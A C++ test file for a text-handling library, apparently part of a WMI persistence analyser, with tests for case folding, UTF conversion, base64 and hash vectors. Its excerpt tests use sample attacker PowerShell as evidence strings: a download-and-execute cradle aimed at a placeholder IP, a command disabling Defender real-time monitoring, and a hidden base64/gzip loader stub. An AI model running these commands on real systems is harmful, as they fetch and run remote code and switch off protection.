// Tests for wmisub/text.hpp: case folding, UTF conversion, encoding
// detection, base64 and hashes against published vectors.
#include <doctest/doctest.h>

#include "wmisub/text.hpp"

#include <cstddef>
#include <initializer_list>
#include <map>
#include <set>
#include <string>
#include <string_view>
#include <unordered_map>
#include <unordered_set>
#include <vector>

using namespace std::string_literals;
using namespace std::string_view_literals;

namespace {

// U+FFFD as UTF-8, to spell expected replacement output.
constexpr std::string_view fffd = "\xEF\xBF\xBD";

// n copies of U+FFFD.
std::string replacements(std::size_t n) {
    std::string out;
    for (std::size_t i = 0; i < n; ++i) out += fffd;
    return out;
}

// The pieces appended in order. Tests build expected strings with this rather than with
// `"literal" + std::string`: GCC 12 at -O3 reports a false -Wstringop-overflow inside libstdc++'s
// operator+(const char*, std::string&&) (an impossible size bound in the insert at position 0).
std::string joined(std::initializer_list<std::string_view> pieces) {
    std::string out;
    for (std::string_view piece : pieces) out += piece;
    return out;
}

// Decodes base64 and expects failure with the given code and offset.
void check_base64_error(std::string_view text, wmisub::errc code, std::size_t offset) {
    CAPTURE(text);
    const auto r = wmisub::base64_decode(text);
    REQUIRE_FALSE(r.has_value());
    CHECK(r.error().code == code);
    CHECK(r.error().location.offset == offset);
    CHECK_FALSE(r.error().message.empty());
}

// Decodes base64 and expects the given bytes.
void check_base64(std::string_view text, std::string_view expected) {
    CAPTURE(text);
    const auto r = wmisub::base64_decode(text);
    REQUIRE(r.has_value());
    CHECK(*r == expected);
}

// iequals, ihash, fold_case and iless must tell the same story.
void check_same_name(std::string_view a, std::string_view b) {
    CAPTURE(a);
    CAPTURE(b);
    CHECK(wmisub::iequals(a, b));
    CHECK(wmisub::iequals(b, a));
    CHECK(wmisub::ihash(a) == wmisub::ihash(b));
    CHECK(wmisub::fold_case(a) == wmisub::fold_case(b));
    CHECK_FALSE(wmisub::iless{}(a, b));
    CHECK_FALSE(wmisub::iless{}(b, a));
}

// The opposite of check_same_name; exactly one of a<b, b<a holds.
void check_different_name(std::string_view a, std::string_view b) {
    CAPTURE(a);
    CAPTURE(b);
    CHECK_FALSE(wmisub::iequals(a, b));
    CHECK(wmisub::fold_case(a) != wmisub::fold_case(b));
    CHECK(wmisub::iless{}(a, b) != wmisub::iless{}(b, a));
}

}  // namespace

TEST_CASE("ascii_lower folds only ASCII letters") {
    static_assert(wmisub::ascii_lower('A') == 'a');
    static_assert(wmisub::ascii_lower('Z') == 'z');
    static_assert(wmisub::ascii_lower('a') == 'a');
    static_assert(wmisub::ascii_lower('@') == '@');
    static_assert(wmisub::ascii_lower('[') == '[');
    CHECK(wmisub::ascii_lower(static_cast<char>(0xC9)) == static_cast<char>(0xC9));
}

TEST_CASE("iequals matches WMI names regardless of case") {
    check_same_name("__EventFilter", "__eventfilter");
    check_same_name("ROOT\\subscription", "root\\SUBSCRIPTION");
    check_same_name("", "");
    check_different_name("__EventFilter", "__EventFilte");
    check_different_name("a", "b");
    check_different_name("", "a");
    // '@' and '`' sit next to 'A'..'Z' / 'a'..'z' and must not fold.
    check_different_name("@", "`");
    check_different_name("[", "{");
}

TEST_CASE("iequals folds Latin-1, Latin Extended-A, Greek and Cyrillic") {
    check_same_name("ÉCOLE", "école");
    check_same_name("ÀÖØÞ", "àöøþ");
    check_same_name("ŁÓDŹ", "łódź");
    check_same_name("ĲŒŸ", "ĳœÿ");
    check_same_name("ΣΊΣΥΦΟΣ", "σίσυφος");  // final sigma folds like sigma
    check_same_name("ΣΊΣΥΦΟΣ", "ΣΊΣΥΦΟς");
    check_same_name("ПРИВЕТ МИР", "привет мир");
    check_same_name("ЁЖЉЋ", "ёжљћ");
    check_same_name("ſ", "S");                 // long s
    check_same_name("\u212A", "k");            // Kelvin sign
    check_same_name("\u212A\u212A\u212A", "KkK");  // three bytes per character against one
    check_different_name(std::string(4096, 'a') + "\u00E9", "A\u00E9");  // a long text is never a short name
    check_same_name("\u212B", "å");            // Angstrom sign
    check_same_name("µ", "Μ");                 // micro sign and Greek capital mu
    check_same_name("\u1E9E", "ß");            // capital sharp s (simple folding)
    check_same_name("\U00010400", "\U00010428");  // Deseret, outside the BMP
    check_different_name("ß", "ss");          // simple folding keeps one code point
    check_different_name("İ", "i");           // Turkic dotted I has no simple folding
    check_different_name("é", "e");
    check_different_name("σ", "ο");
}

TEST_CASE("invalid UTF-8 compares byte-wise and never equals a character") {
    check_same_name("\xC3", "\xC3");
    check_same_name("A\xFF" "B", "a\xFF" "b");
    check_different_name("\xC3", "\xC4");
    check_different_name("\xFF", "ÿ");
    check_different_name("\xC3\xA9", "\xC3");  // é vs its truncated lead byte
    check_different_name("\xC0\x80", "\0"s);   // overlong NUL is not NUL
    CHECK(wmisub::fold_case("AB\xFF\xC3" "C") == "ab\xFF\xC3" "c");
}

TEST_CASE("fold_case produces lower case and is idempotent") {
    CHECK(wmisub::fold_case("CommandLineEventConsumer") == "commandlineeventconsumer");
    CHECK(wmisub::fold_case("ÉCOLE") == "école");
    CHECK(wmisub::fold_case("ΣΊΣΥΦΟΣ") == "σίσυφοσ");
    CHECK(wmisub::fold_case("\u212A") == "k");  // three bytes become one
    const std::string mixed = "Ab\xC3\xC9\xE2\x82 ЖΩ\xF4\x90\x80\x80";
    const std::string once = wmisub::fold_case(mixed);
    CHECK(wmisub::fold_case(once) == once);
    CHECK(wmisub::iequals(mixed, once));
}

TEST_CASE("simple case folding table") {
    using wmisub::detail::fold_code_point;
    CHECK(fold_code_point(U'Σ') == U'σ');
    CHECK(fold_code_point(U'ς') == U'σ');
    CHECK(fold_code_point(U'Ÿ') == U'ÿ');
    CHECK(fold_code_point(U'ſ') == U's');
    CHECK(fold_code_point(U'\u2126') == U'ω');  // Ohm sign
    CHECK(fold_code_point(U'Ё') == U'ё');
    CHECK(fold_code_point(U'Я') == U'я');
    CHECK(fold_code_point(U'Ѡ') == U'ѡ');
    CHECK(fold_code_point(U'Ӏ') == U'ӏ');
    CHECK(fold_code_point(U'Ａ') == U'ａ');
    CHECK(fold_code_point(U'Ā') == U'ā');
    CHECK(fold_code_point(U'ā') == U'ā');
    CHECK(fold_code_point(U'Ĺ') == U'ĺ');
    CHECK(fold_code_point(U'ĸ') == U'ĸ');
    CHECK(fold_code_point(U'ı') == U'ı');
    CHECK(fold_code_point(U'×') == U'×');
    CHECK(fold_code_point(0x10FFFF) == 0x10FFFF);
    // Folding must be idempotent everywhere or fold_case(fold_case(x)) would differ.
    std::size_t non_idempotent = 0;
    for (char32_t c = 0; c <= 0x10FFFF; ++c) {
        const char32_t f = fold_code_point(c);
        const bool bad_target = f != c && (wmisub::detail::is_surrogate(f) || f > 0x10FFFF);
        if (fold_code_point(f) != f || bad_target) ++non_idempotent;
    }
    CHECK(non_idempotent == 0);
}

TEST_CASE("istarts_with / iends_with compare whole folded characters") {
    CHECK(wmisub::istarts_with("ActiveScriptEventConsumer", "activescript"));
    CHECK(wmisub::istarts_with("abc", ""));
    CHECK(wmisub::istarts_with("", ""));
    CHECK_FALSE(wmisub::istarts_with("", "a"));
    CHECK_FALSE(wmisub::istarts_with("ab", "abc"));
    CHECK(wmisub::istarts_with("ÉCOLE normale", "école"));
    CHECK(wmisub::istarts_with("\u212Aelvin", "KEL"));
    CHECK_FALSE(wmisub::istarts_with("\xC3\xA9", "\xC3"));  // half a character is no prefix

    CHECK(wmisub::iends_with("C:\\Windows\\Evil.VBS", ".vbs"));
    CHECK(wmisub::iends_with("abc", ""));
    CHECK_FALSE(wmisub::iends_with("bc", "abc"));
    CHECK(wmisub::iends_with("x\u212A", "k"));     // match is 3 bytes in text, 1 in suffix
    CHECK(wmisub::iends_with("xk", "\u212A"));
    CHECK(wmisub::iends_with("ΣΊΣΥΦΟΣ", "φος"));
    CHECK_FALSE(wmisub::iends_with("\xC3\xA9", "\xA9"));  // continuation byte alone is not a suffix
    CHECK(wmisub::iends_with("a\xFF", "A\xFF"));
}

TEST_CASE("ifind folds ASCII and returns byte offsets") {
    CHECK(wmisub::ifind("powershell.exe -EncodedCommand AAA", "-encodedcommand") == 15);
    CHECK(wmisub::ifind("abc", "") == 0);
    CHECK(wmisub::ifind("", "a") == std::string_view::npos);
    CHECK(wmisub::ifind("abc", "abcd") == std::string_view::npos);
    CHECK(wmisub::ifind("aaab", "AAB") == 1);
    CHECK(wmisub::ifind("abcABC", "CA") == 2);
    CHECK(wmisub::ifind("école", "COLE") == 2);
}

TEST_CASE("case-insensitive containers") {
    std::unordered_set<std::string, wmisub::ihasher, wmisub::iequal_to> names;
    names.insert("__EventFilter");
    names.insert("__EVENTFILTER");
    names.insert("Σίσυφος");
    names.insert("ΣΊΣΥΦΟΣ");
    CHECK(names.size() == 2);
    CHECK(names.find("__eventfilter"sv) != names.end());  // transparent lookup, no std::string built
    CHECK(names.count("σίσυφος"sv) == 1);

    std::map<std::string, int, wmisub::iless> ordered;
    ordered["Beta"] = 1;
    ordered["alpha"] = 2;
    ordered["BETA"] = 3;
    ordered["école"] = 4;
    ordered["ÉCOLE"] = 5;
    CHECK(ordered.size() == 3);
    CHECK(ordered.begin()->first == "alpha");
    CHECK(ordered.find("ALPHA"sv)->second == 2);
    CHECK(ordered.find("beta"sv)->second == 3);

    // iless must be a strict weak order whose equivalence is iequals.
    const std::vector<std::string> sample = {"a", "A", "b", "\xFF", "\xC3", "é", "É", "", "ab", "AB", "ς", "Σ"};
    for (const auto& x : sample) {
        CHECK_FALSE(wmisub::iless{}(x, x));
        for (const auto& y : sample) {
            const bool equivalent = !wmisub::iless{}(x, y) && !wmisub::iless{}(y, x);
            CHECK(equivalent == wmisub::iequals(x, y));
            if (wmisub::iequals(x, y)) CHECK(wmisub::ihash(x) == wmisub::ihash(y));
            for (const auto& z : sample) {
                if (wmisub::iless{}(x, y) && wmisub::iless{}(y, z)) CHECK(wmisub::iless{}(x, z));
            }
        }
    }
}

TEST_CASE("trim strips ASCII whitespace only") {
    static_assert(wmisub::trim("  a b \t\r\n") == "a b");
    CHECK(wmisub::trim("") == "");
    CHECK(wmisub::trim(" \t\n\v\f\r") == "");
    CHECK(wmisub::trim("x") == "x");
    CHECK(wmisub::trim("\xC2\xA0x\xC2\xA0") == "\xC2\xA0x\xC2\xA0");  // NBSP is not ASCII whitespace
}

TEST_CASE("UTF-8 to UTF-16 and back") {
    const std::string text = "A é € 😀 Σ";
    const std::u16string u16 = wmisub::utf8_to_utf16(text);
    CHECK(u16 == u"A é € 😀 Σ");
    CHECK(wmisub::utf16_to_utf8(u16) == text);
    CHECK(wmisub::utf8_to_utf16("\xF0\x9F\x98\x80") == u"\xD83D\xDE00");
    CHECK(wmisub::utf8_to_utf16("\xF4\x8F\xBF\xBF") == u"\xDBFF\xDFFF");  // U+10FFFF
    CHECK(wmisub::utf8_to_utf16("").empty());
    CHECK(wmisub::utf8_to_utf16("\0"s) == u"\0"s);
}

TEST_CASE("each kind of invalid UTF-8 becomes U+FFFD") {
    const auto to8 = [](std::string_view s) { return wmisub::utf16_to_utf8(wmisub::utf8_to_utf16(s)); };
    CHECK(to8("a\x80z") == joined({"a", replacements(1), "z"}));          // stray continuation
    CHECK(to8("\xC0\x80") == replacements(2));                           // overlong 2-byte
    CHECK(to8("\xC1\xBF") == replacements(2));
    CHECK(to8("\xE0\x80\xAF") == replacements(3));                       // overlong 3-byte
    CHECK(to8("\xF0\x80\x80\xAF") == replacements(4));                   // overlong 4-byte
    CHECK(to8("\xED\xA0\x80") == replacements(3));                       // encoded surrogate
    CHECK(to8("\xED\xBF\xBF") == replacements(3));
    CHECK(to8("\xF4\x90\x80\x80") == replacements(4));                   // above U+10FFFF
    CHECK(to8("\xF5\x80\x80\x80") == replacements(4));
    CHECK(to8("\xFF\xFE") == replacements(2));
    CHECK(to8("\xE2\x82") == replacements(1));                           // truncated at end
    CHECK(to8("\xF0\x9F\x98") == replacements(1));
    CHECK(to8("\xE2\x82z") == replacements(1) + "z");                    // truncated before ASCII
    CHECK(to8("\xC3\xC3\xA9") == replacements(1) + "é");                 // bad lead keeps next char
    CHECK(wmisub::utf8_to_utf16("\xC3") == u"\xFFFD");
}

TEST_CASE("lone UTF-16 surrogates become U+FFFD") {
    const std::string r(fffd);
    CHECK(wmisub::utf16_to_utf8(u"\xD800") == r);                        // high at end
    CHECK(wmisub::utf16_to_utf8(u"\xDC00" "a") == r + "a");              // lone low
    CHECK(wmisub::utf16_to_utf8(u"\xD800" "a") == r + "a");              // high then non-surrogate
    CHECK(wmisub::utf16_to_utf8(u"\xD800\xD800\xDC00") == r + "\xF0\x90\x80\x80");
    CHECK(wmisub::utf16_to_utf8(u"\xDC00\xD800") == r + r);              // reversed pair
}

TEST_CASE("is_valid_utf8") {
    static_assert(wmisub::is_valid_utf8("plain"));
    CHECK(wmisub::is_valid_utf8(""));
    CHECK(wmisub::is_valid_utf8("é€😀\xF4\x8F\xBF\xBF"));
    CHECK_FALSE(wmisub::is_valid_utf8("\xC0\x80"));
    CHECK_FALSE(wmisub::is_valid_utf8("\xED\xA0\x80"));
    CHECK_FALSE(wmisub::is_valid_utf8("\xF4\x90\x80\x80"));
    CHECK_FALSE(wmisub::is_valid_utf8("abc\xE2\x82"));
    CHECK_FALSE(wmisub::is_valid_utf8("\x80"));
}

TEST_CASE("raw UTF-16 bytes") {
    CHECK(wmisub::utf16le_to_utf8("A\0\xE9\0"s) == "Aé");
    CHECK(wmisub::utf16be_to_utf8("\0A\0\xE9"s) == "Aé");
    CHECK(wmisub::utf16le_to_utf8("\x3D\xD8\x00\xDE"s) == "😀");
    CHECK(wmisub::utf16le_to_utf8("A\0B"s) == joined({"A", fffd}));      // odd trailing byte
    CHECK(wmisub::utf16be_to_utf8("\xD8\x00"s) == std::string(fffd));
    CHECK(wmisub::utf16le_to_utf8("").empty());
    CHECK(wmisub::utf8_to_utf16le_bytes("Aé😀") == "A\0\xE9\0\x3D\xD8\x00\xDE"s);
    // PowerShell: powershell -EncodedCommand ZABpAHIA runs "dir".
    CHECK(wmisub::base64_encode(wmisub::utf8_to_utf16le_bytes("dir")) == "ZABpAHIA");
    CHECK(wmisub::utf16le_to_utf8(wmisub::base64_decode("ZABpAHIA").value()) == "dir");
}

TEST_CASE("decode_text honours byte order marks") {
    auto d = wmisub::decode_text("\xEF\xBB\xBFinstance of");
    CHECK(d.utf8 == "instance of");
    CHECK(d.encoding == wmisub::text_encoding::utf8);
    CHECK(d.had_bom);

    d = wmisub::decode_text("\xFF\xFEi\0n\0"s);
    CHECK(d.utf8 == "in");
    CHECK(d.encoding == wmisub::text_encoding::utf16le);
    CHECK(d.had_bom);

    d = wmisub::decode_text("\xFE\xFF\0i\0n"s);
    CHECK(d.utf8 == "in");
    CHECK(d.encoding == wmisub::text_encoding::utf16be);
    CHECK(d.had_bom);

    // A BOM wins even over content that would look like the other order.
    d = wmisub::decode_text("\xFF\xFE\0A"s);
    CHECK(d.encoding == wmisub::text_encoding::utf16le);
    CHECK(d.utf8 == "\xE4\x84\x80");  // U+4100
}

TEST_CASE("decode_text detects BOM-less UTF-16 and otherwise reads UTF-8") {
    const std::string le = wmisub::utf8_to_utf16le_bytes("#pragma namespace(\"\\\\\\\\.\\\\root\\\\subscription\")");
    auto d = wmisub::decode_text(le);
    CHECK(d.encoding == wmisub::text_encoding::utf16le);
    CHECK_FALSE(d.had_bom);
    CHECK(d.utf8 == "#pragma namespace(\"\\\\\\\\.\\\\root\\\\subscription\")");

    std::string be;
    for (std::size_t i = 0; i + 1 < le.size(); i += 2) {
        be.push_back(le[i + 1]);
        be.push_back(le[i]);
    }
    d = wmisub::decode_text(be);
    CHECK(d.encoding == wmisub::text_encoding::utf16be);
    CHECK_FALSE(d.had_bom);
    CHECK(d.utf8 == "#pragma namespace(\"\\\\\\\\.\\\\root\\\\subscription\")");

    // Mixed scripts still detected: "Привет, world" has NULs only in the ASCII half.
    d = wmisub::decode_text(wmisub::utf8_to_utf16le_bytes("Привет, world"));
    CHECK(d.encoding == wmisub::text_encoding::utf16le);
    CHECK(d.utf8 == "Привет, world");

    d = wmisub::decode_text("plain é text");
    CHECK(d.encoding == wmisub::text_encoding::utf8);
    CHECK_FALSE(d.had_bom);
    CHECK(d.utf8 == "plain é text");

    d = wmisub::decode_text("bad \xC0 byte");
    CHECK(d.encoding == wmisub::text_encoding::utf8);
    CHECK(d.utf8 == "bad " + std::string(fffd) + " byte");

    // A few NULs in otherwise UTF-8 data are not enough.
    d = wmisub::decode_text("abcdefghij\0klmnopqrstu"s);
    CHECK(d.encoding == wmisub::text_encoding::utf8);

    d = wmisub::decode_text("");
    CHECK(d.utf8.empty());
    CHECK(d.encoding == wmisub::text_encoding::utf8);
    CHECK_FALSE(d.had_bom);
    d = wmisub::decode_text("x");
    CHECK(d.utf8 == "x");
}

TEST_CASE("base64 RFC 4648 test vectors") {
    const std::vector<std::pair<std::string_view, std::string_view>> vectors = {
        {"", ""},         {"f", "Zg=="},        {"fo", "Zm8="},       {"foo", "Zm9v"},
        {"foob", "Zm9vYg=="}, {"fooba", "Zm9vYmE="}, {"foobar", "Zm9vYmFy"},
    };
    for (const auto& [plain, encoded] : vectors) {
        CHECK(wmisub::base64_encode(plain) == encoded);
        check_base64(encoded, plain);
        std::string unpadded(encoded);
        while (!unpadded.empty() && unpadded.back() == '=') unpadded.pop_back();
        check_base64(unpadded, plain);
    }
    const std::string all_bytes = [] {
        std::string s;
        for (int i = 0; i < 256; ++i) s.push_back(static_cast<char>(i));
        return s;
    }();
    check_base64(wmisub::base64_encode(all_bytes), all_bytes);
}

TEST_CASE("base64 accepts URL-safe digits and whitespace") {
    CHECK(wmisub::base64_encode("\xFB\xFF") == "+/8=");
    check_base64("+/8=", "\xFB\xFF");
    check_base64("-_8", "\xFB\xFF");
    check_base64(" Zm9v\r\n YmFy\t", "foobar");
    check_base64("Zg = =", "f");
    check_base64("Zg==\n", "f");
    check_base64(" \n\t", "");
    check_base64("Zh==", "f");  // non-zero leftover bits are tolerated
}

TEST_CASE("base64 errors carry code and byte offset") {
    using wmisub::errc;
    check_base64_error("Zm9v!", errc::invalid_encoding, 4);
    check_base64_error("Zm 9v.YmFy", errc::invalid_encoding, 5);
    check_base64_error("Zm9v\xC3\xA9", errc::invalid_encoding, 4);
    check_base64_error("Zm9\0v"sv, errc::invalid_encoding, 3);
    check_base64_error("=", errc::syntax_error, 0);           // padding with no data
    check_base64_error("Z===", errc::syntax_error, 1);        // padding after one digit
    check_base64_error("Zm9v=", errc::syntax_error, 4);       // padding after full quartet
    check_base64_error("Zg===", errc::syntax_error, 4);       // too much padding
    check_base64_error("Zm8==", errc::syntax_error, 4);
    check_base64_error("Zg==Zg==", errc::syntax_error, 4);    // data after padding
    check_base64_error("Zg= x", errc::syntax_error, 4);
    check_base64_error("Zg=", errc::syntax_error, 3);         // incomplete padding, reported at end
    check_base64_error("Zm9vZ", errc::syntax_error, 4);       // lone final digit
    check_base64_error("Zm9vZ \n", errc::syntax_error, 4);
}

TEST_CASE("SHA-256 FIPS 180-4 / NIST vectors") {
    CHECK(wmisub::to_hex(wmisub::sha256_of("")) ==
          "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855");
    CHECK(wmisub::to_hex(wmisub::sha256_of("abc")) ==
          "ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad");
    CHECK(wmisub::sha256_hex("abcdbcdecdefdefgefghfghighijhijkijkljklmklmnlmnomnopnopq") ==
          "248d6a61d20638b8e5c026930c3e6039a33ce45964ff2167f6ecedd419db06c1");
    CHECK(wmisub::sha256_hex("abcdefghbcdefghicdefghijdefghijkefghijklfghijklmghijklmnhijklmno"
                             "ijklmnopjklmnopqklmnopqrlmnopqrsmnopqrstnopqrstu") ==
          "cf5b16a778af8380036ce59e7b0492370b249b11e8f07a51afac45037afee9d1");
    const std::string million(1000000, 'a');
    CHECK(wmisub::sha256_hex(million) == "cdc76e5c9914fb9281a1c7e284d73e67f1809a48a497200e046d39ccc7112cd0");

    // Incremental updates in awkward pieces give the same digest, and finish() resets.
    wmisub::sha256 h;
    for (std::size_t pos = 0, step = 1; pos < million.size(); pos += step, step = step % 97 + 1) {
        h.update(std::string_view(million).substr(pos, step));
    }
    CHECK(wmisub::to_hex(h.finish()) == "cdc76e5c9914fb9281a1c7e284d73e67f1809a48a497200e046d39ccc7112cd0");
    h.update("ab");
    h.update("");
    h.update("c");
    CHECK(wmisub::to_hex(h.finish()) == "ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad");
}

TEST_CASE("SHA-256 and MD5 around padding boundaries") {
    // Lengths where the length field just fits, just does not, or fills a block.
    struct vector {
        std::size_t length;
        std::string_view sha256;
        std::string_view md5;
    };
    const vector vectors[] = {
        {55, "e7313d333c272e639f790978283f9eb392e843d0f29b7016828bb1daa4aac70b", "52c0e574e1198de5fe3f8f11440dcb1b"},
        {56, "4324d65f3c103567f5589c710bc08f8523f929a9272e3af36fc968e52abc6c27", "46c9907fc908ee68b1e7b8e71286a518"},
        {63, "81c80242132f230c3bd41b3e63bbcff16107339549214a99614ff26664625055", "a62f6d59e837867693f042f5b8f5a236"},
        {64, "39e3d7b6b5d075d37d053ad89b24b41bef4f3c29760c84447cab3f3be1882241", "7160b8fb5e9e4023d549c3971fbaeead"},
        {65, "aacca6ff74fdbb296d165a45cecfa04e5127bc008770fbbdd48006f2d2fae95e", "70bd662e7aefbda85a0f7244167b7897"},
        {119, "9ce7368e4daf32341631b492e80359dc9f594b48453cd0dd5bf0b19279cc177e", "e84905d4214f4d1ca56c2cdcc152b143"},
        {120, "7836b787757e95e58b3ca5aec90b1b004e8deba1e50e9675af9cabf1a13a04b5", "e3eb5a6c8669ea01a8c185b8abc8a5dc"},
    };
    for (const auto& v : vectors) {
        CAPTURE(v.length);
        std::string data;
        for (std::size_t i = 0; i < v.length; ++i) data.push_back(static_cast<char>((i * 7 + 3) & 0xFFu));
        CHECK(wmisub::sha256_hex(data) == v.sha256);
        CHECK(wmisub::md5_hex(data) == v.md5);
    }
}

TEST_CASE("MD5 RFC 1321 test suite") {
    CHECK(wmisub::to_hex(wmisub::md5_of("")) == "d41d8cd98f00b204e9800998ecf8427e");
    CHECK(wmisub::md5_hex("a") == "0cc175b9c0f1b6a831c399e269772661");
    CHECK(wmisub::md5_hex("abc") == "900150983cd24fb0d6963f7d28e17f72");
    CHECK(wmisub::md5_hex("message digest") == "f96b697d7cb7938d525a2f31aaf161d0");
    CHECK(wmisub::md5_hex("abcdefghijklmnopqrstuvwxyz") == "c3fcd3d76192e4007dfb496cca67e13b");
    CHECK(wmisub::md5_hex("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789") ==
          "d174ab98d277d9f5a5611c2c9f419d9f");
    CHECK(wmisub::md5_hex("1234567890123456789012345678901234567890"
                          "1234567890123456789012345678901234567890") == "57edf4a22be3c955ac49da2e2107b67a");
    CHECK(wmisub::md5_hex(std::string(1000000, 'a')) == "7707d6ae4e027c70eea2a935c2296f21");

    wmisub::md5 h;
    h.update("message ");
    h.update("digest");
    CHECK(wmisub::to_hex(h.finish()) == "f96b697d7cb7938d525a2f31aaf161d0");
    CHECK(wmisub::to_hex(h.finish()) == "d41d8cd98f00b204e9800998ecf8427e");  // reset after finish
}

TEST_CASE("to_hex") {
    const std::uint8_t bytes[] = {0x00, 0x0f, 0xa0, 0xff};
    CHECK(wmisub::to_hex(bytes) == "000fa0ff");
    CHECK(wmisub::to_hex({}) == "");
}

// ---------------------------------------------------------------------------
// Excerpts
// ---------------------------------------------------------------------------

namespace {

constexpr std::string_view ellipsis = "\xE2\x80\xA6";

bool is_blank(char c) { return c == ' ' || c == '\t' || c == '\n' || c == '\r'; }

bool continuation(char c) { return (static_cast<unsigned char>(c) & 0xC0u) == 0x80u; }

}  // namespace

TEST_CASE("excerpt_at keeps a text that fits, unmarked") {
    CHECK(wmisub::excerpt_at("cmd /c whoami", 3, 200) == "cmd /c whoami");
    CHECK(wmisub::excerpt_of("", 10).empty());
    const wmisub::excerpt_range r = wmisub::excerpt_range_at("abc", 1, 3);
    CHECK(r.begin == 0);
    CHECK(r.end == 3);
}

TEST_CASE("excerpt_at cuts between words and marks each cut") {
    std::string text;
    for (int i = 0; i < 60; ++i) text += "word" + std::to_string(i) + " ";
    text += "IEX(New-Object Net.WebClient).DownloadString('http://192.0.2.7/a') ";
    for (int i = 0; i < 60; ++i) text += "tail" + std::to_string(i) + " ";
    const std::size_t at = text.find("IEX");
    const std::string e = wmisub::excerpt_at(text, at, 120);
    REQUIRE(e.starts_with(ellipsis));
    REQUIRE(e.ends_with(ellipsis));
    const std::string_view body = std::string_view(e).substr(ellipsis.size(), e.size() - 2 * ellipsis.size());
    CHECK(body.size() <= 120);
    CHECK(body.find("IEX(New-Object") != std::string_view::npos);
    const std::size_t begin = text.find(body);
    REQUIRE(begin != std::string::npos);
    CHECK(is_blank(text[begin - 1]));             // starts at a word
    CHECK(is_blank(text[begin + body.size()]));   // ends at a word's end
    CHECK(!is_blank(body.front()));
    CHECK(!is_blank(body.back()));
}

TEST_CASE("excerpt_at starts at the line holding the evidence when it is close") {
    const std::string text = std::string(300, 'x') + "\nSet-MpPreference -DisableRealtimeMonitoring $true\n" + std::string(300, 'y');
    const std::string e = wmisub::excerpt_at(text, text.find("-Disable"), 100);
    CHECK(e.starts_with(std::string(ellipsis) + "Set-MpPreference"));
}

TEST_CASE("excerpt_at cuts a text without words where the window ends, never inside a character") {
    const std::string blob(1000, 'A');
    const std::string e = wmisub::excerpt_at(blob, 500, 100);
    CHECK(e == std::string(ellipsis) + std::string(100, 'A') + std::string(ellipsis));
    std::string greek;
    for (int i = 0; i < 200; ++i) greek += "\xCE\xB1";  // α, two bytes each
    for (std::size_t max : {7u, 50u, 101u}) {
        for (std::size_t offset : {0u, 1u, 99u, 200u, 399u, 400u}) {
            const wmisub::excerpt_range r = wmisub::excerpt_range_at(greek, offset, max);
            CAPTURE(max);
            CAPTURE(offset);
            CHECK(r.end - r.begin <= max);
            CHECK(!continuation(greek[r.begin]));
            if (r.end < greek.size()) CHECK(!continuation(greek[r.end]));
        }
    }
}

TEST_CASE("excerpt_range_at always holds the evidence and stays in bounds") {
    const std::string text =
        "powershell.exe -NoP -NonI -W Hidden -Exec Bypass -Command \"$s=New-Object IO.MemoryStream(,[Convert]::"
        "FromBase64String('H4sIAAAAAAAEAL1X6XPaSBb/7Kr8D11TU4VUAYxP4lSlakBgGxtsbA5fQ7kaqQ8=='));IEX (New-Object IO."
        "StreamReader(New-Object IO.Compression.GzipStream($s,[IO.Compression.CompressionMode]::Decompress))).ReadToEnd();\"";
    for (std::size_t max : {16u, 40u, 80u, 200u}) {
        for (std::size_t offset = 0; offset < text.size(); ++offset) {
            const wmisub::excerpt_range r = wmisub::excerpt_range_at(text, offset, max);
            CAPTURE(max);
            CAPTURE(offset);
            REQUIRE(r.begin <= r.end);
            REQUIRE(r.end <= text.size());
            CHECK(r.end - r.begin <= max);
            CHECK(r.begin <= offset);
            CHECK(offset < r.end);
        }
    }
    const wmisub::excerpt_range past = wmisub::excerpt_range_at(text, text.size() + 50, 40);  // clamped
    CHECK(past.end == text.size());
    CHECK(wmisub::excerpt_at(text, text.size() + 50, 40).starts_with(ellipsis));
}
